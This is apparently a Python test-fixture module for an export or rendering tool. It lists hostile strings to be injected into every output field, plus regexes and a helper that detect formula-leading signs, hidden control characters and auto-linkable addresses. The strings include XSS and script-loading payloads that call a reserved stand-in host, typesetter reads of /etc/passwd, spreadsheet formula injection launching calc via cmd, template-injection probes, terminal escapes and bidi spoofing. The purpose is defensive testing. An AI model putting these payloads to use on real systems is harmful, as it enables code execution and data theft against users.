"""Texts made to hurt: to run, to fetch, to lead out, to hide, to move a cursor, to break a page.

Each is tried in every field of every format and in every string of a case. The host in them is
reserved (RFC 2606): whoever asks for it has been made to ask.
"""

from __future__ import annotations

import re
import unicodedata

HOST = "never-asked.example"
RAN = "__ran__"
"""Set on the page's window by whatever script of the evidence comes to run."""

MARKUP = (
    f"<script>window.{RAN}=1;alert(1)</script>",
    f'"><img src=x onerror="window.{RAN}=1"><img src=\'https://{HOST}/i.png\'>',
    f"</script></style></title></textarea><script src=//{HOST}/s.js></script>",
    f"<svg onload=window.{RAN}=1><a xlink:href='//{HOST}'><image href='//{HOST}/x.svg'/>",
    f"' autofocus onfocus=window.{RAN}=1 x='",
    f"javascript:window.{RAN}=1//https://{HOST}/",
    f"data:text/html,<script>alert('{HOST}')</script>",
    f"<a href='https://{HOST}/'>click</a> <iframe srcdoc='<script>parent.{RAN}=1</script>'>",
    f"}}</style><style>@import 'https://{HOST}/c.css';*{{background:url(//{HOST}/b.png)}}",
    f"<!-- <base href=https://{HOST}/> --!> <meta http-equiv=refresh content='0;//{HOST}'> ]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript: &amp;amp;",
    "{{ 7*7 }} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %>",
    f'{{"a": "</script><!--<script>", "u": "https://{HOST}/?q=1"}}',
)
"""For pages: tags, attributes, addresses that run, style, templates, JSON within a script."""
TYPESETTING = (
    '#read("/etc/passwd") #panic("ran") #eval("1/0") #sys.inputs',
    f'#image("https://{HOST}/i.png") #import "@preview/cetz:0.3.4": * #include "/etc/hosts"',
    f'#link("https://{HOST}/")[click] <label> @reference $ x_1 $ ``` = head * _ ~ \\ // /* */',
)
"""For the typesetter of the PDF."""
FORMULAS = (
    f'=HYPERLINK("https://{HOST}/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    " =1+1",
    '";=1+1;"',
    "a\r\n=1+1,b",
)
"""For spreadsheets: what begins a formula, and what ends a cell or a line before one."""
CONTROLS = (
    "\x1b[31mred\x1b[2J\x1b[1;1H \x9b31m",
    f"\x1b]8;;https://{HOST}/\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07",
    "bell\x07 back\x08\x08\x08 nul\x00 del\x7f vt\x0b ff\x0c so\x0e",
    "overwritten\rforged",
    "\u202egnp.exe\u202c \u2066left\u2069 \u2067right\u2069 \u200fmark\u200e \u061c",
    "zero\u200bwidth\u200c \u200d\u2060\ufeff \U000e0041\U000e0042 soft\u00adhyphen",
    "line\u2028separator\u2029paragraph\u0085next",
)
"""For terminals and for readers' eyes."""
SHAPES = (
    "Z" + "\u0301\u0489\u0336" * 60,
    "W" * 3000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f 漢字 مرحبا ሰላም",
    "\ufffe\uffff\U0010ffff \ue000",
)
"""For layout: stacks of marks, words without an end, what fonts lack."""
PAYLOADS = (*MARKUP, *TYPESETTING, *FORMULAS, *CONTROLS, *SHAPES)
LONE = "cut \ud83d surrogate \udc00"
"""Half a character, which JSON can write and no encoding can."""

_SPACES = "\n"


def unsafe_in_a_terminal(shown: str) -> set[str]:
    """The characters of an output that a terminal would obey, hide or turn around."""
    hidden = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
    return {
        f"U+{ord(char):04X}"
        for char in set(shown)
        if char not in _SPACES and unicodedata.category(char) in hidden
    }


ACTIVE = re.compile(r"[=+\-@＝＋－＠\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
"""What a program of tables may take for itself, and what begins with a sign and is a figure."""
HIDING = re.compile("[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
LIVE = re.compile(r"(?i)(?:https?|ftp)://\w|\bwww\.\w|\b(?:javascript|data|mailto|file):\S")
"""An address that a program may turn into a link by itself."""
